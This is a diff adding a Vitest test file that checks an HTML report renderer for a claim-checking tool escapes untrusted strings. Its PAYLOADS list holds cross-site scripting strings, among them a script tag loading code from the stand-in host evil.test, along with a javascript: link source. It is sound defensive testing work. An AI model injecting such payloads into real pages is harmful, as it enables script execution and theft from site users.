@@ -1,0 +1,88 @@
+import type { DetectionResult } from '@factkit/claim-query';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { escapeHtml } from '../src/report/escape-html.js';
+import { renderCheckReport } from '../src/report/check-report.js';
+
+const PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(2)>', "'><svg onload=alert(3)>", '</textarea><script src="http://evil.test/x.js"></script>', '<ScRiPt>alert(4)</sCrIpT>'];
+
+/** A detection result with an attack payload in every string a model, the corpus or the user supplies. */
+function poisoned(payload: string): DetectionResult {
+  const answer = `First ${payload}. Second sentence.`;
+  const firstEnd = answer.indexOf('.') + 1;
+  return {
+    id: `id ${payload}`,
+    question: `question ${payload}`,
+    answer,
+    language: 'en',
+    status: 'ok',
+    responseLabel: 'hallucinated',
+    noClaims: false,
+    generatorId: `gen ${payload}`,
+    retrieverId: `ret ${payload}`,
+    verifierId: `ver ${payload}`,
+    generation: { raw: [`raw ${payload}`], provenance: { prompt: payload } },
+    problems: [{ code: `code ${payload}`, message: `message ${payload}` }],
+    sentences: [
+      { index: 0, text: answer.slice(0, firstEnd), start: 0, end: firstEnd, label: 'hallucinated', claimIds: ['c0'] },
+      { index: 1, text: answer.slice(firstEnd + 1), start: firstEnd + 1, end: answer.length, label: 'not-hallucinated', claimIds: ['c1'] },
+    ],
+    claims: [
+      {
+        id: 'c0',
+        claim: `claim ${payload}`,
+        query: `query ${payload}`,
+        snippets: [{ text: `snippet ${payload}`, source: `javascript:${payload}`, title: `title ${payload}`, score: 1.5 }],
+        verdict: { status: 'ok', label: 'hallucinated', reasoning: `reasoning ${payload}`, raw: [`reply ${payload}`], verifier: `v ${payload}`, problems: [], provenance: { reply: payload }, votes: { hallucinated: 1 } },
+        sentenceIndex: 0,
+        problems: [],
+      },
+      {
+        id: 'c1',
+        claim: 'Second sentence.',
+        query: 'second',
+        snippets: [{ text: 'ok', source: 'https://example.org/a?b=1&c=2' }],
+        verdict: { status: 'ok', label: 'correct', raw: [], verifier: 'v', problems: [] },
+        sentenceIndex: 1,
+        problems: [],
+      },
+      { id: 'c2', claim: `unaligned ${payload}`, snippets: [], verdict: { status: 'failed', raw: [], verifier: 'v', problems: [{ code: 'call-failed', message: payload }] }, problems: [] },
+    ],
+  };
+}
+
+describe('renderCheckReport', () => {
+  it('escapes every supplied string: no payload survives as markup', () => {
+    for (const payload of PAYLOADS) {
+      const html = renderCheckReport([poisoned(payload), poisoned(payload)], { title: `t ${payload}`, corpus: payload, inputProblems: [{ line: 3, code: payload, message: payload }] });
+      expect(html).not.toMatch(/<script/i);
+      expect(html).not.toMatch(/<img|<svg/i);
+      expect(html).not.toContain('href="javascript:');
+      expect(html).toContain(escapeHtml(payload));
+      // The only tags are the report's own.
+      const tags = new Set([...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1]!.toLowerCase()));
+      expect([...tags].every((tag) => ['html', 'head', 'meta', 'title', 'style', 'body', 'header', 'h1', 'h2', 'h3', 'p', 'span', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'section', 'ul', 'ol', 'li', 'code', 'dl', 'dt', 'dd', 'div', 'details', 'summary', 'pre', 'strong', 'em', 'footer'].includes(tag))).toBe(true);
+    }
+  });
+
+  it('links only http(s) sources, escaped; colours sentences by label; keeps the answer text intact', () => {
+    const html = renderCheckReport([poisoned('x')]);
+    expect(html).toContain('<a href="https://example.org/a?b=1&amp;c=2"');
+    expect(html).toMatch(/<span class="sentence label-hallucinated" data-label="hallucinated" data-sentence="0"[^>]*>First x\.<\/span> <span class="sentence label-not-hallucinated"/);
+    expect(html).toContain('data-response-label="hallucinated"');
+    expect(html).toMatch(/<details class="evidence"><summary>Evidence \(1 snippet\)<\/summary>/);
+    expect(html).toContain('Claims not aligned to a sentence');
+    expect(html).not.toMatch(/<script|<link|src=/i);
+  });
+
+  it('property: escapeHtml output never contains markup characters and round-trips through entity decoding', () => {
+    const decode = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const escaped = escapeHtml(text);
+        expect(escaped).not.toMatch(/[<>"']/);
+        expect(decode(escaped)).toBe(text);
+      }),
+    );
+  });
+});
